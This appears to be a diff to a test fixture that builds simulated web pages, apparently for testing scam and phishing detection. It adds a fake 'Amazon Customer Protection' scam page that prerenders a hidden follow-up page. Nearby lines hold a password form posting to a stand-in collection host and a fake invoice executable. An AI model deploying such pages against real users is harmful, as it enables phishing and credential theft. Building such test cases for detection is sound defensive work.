@@ -232,6 +232,17 @@ export function madePages(url) {
           `${CLAIM}<form><input type="password"><button formaction="https://collect.panel-9.example/">Go</button></form>`,
         ),
       };
+    // Where the browser is told which page is wanted next, and makes it ready unseen.
+    case 'early.longread.example/':
+      return {
+        body: page(
+          'Amazon Customer Protection',
+          `${scamBody}<p><a href="/scam/">More</a></p>` +
+            '<script type="speculationrules">{"prerender":[{"urls":["/scam/"],"eagerness":"immediate"}]}</script>',
+        ),
+      };
+    case 'early.longread.example/scam/':
+      return { body: page('Amazon Customer Protection', scamBody) };
     // What a tool's maker and what another site hand out, each under a name of the site's choice.
     case 'anydesk.com/get':
       return attachment('invoice-2026.exe');
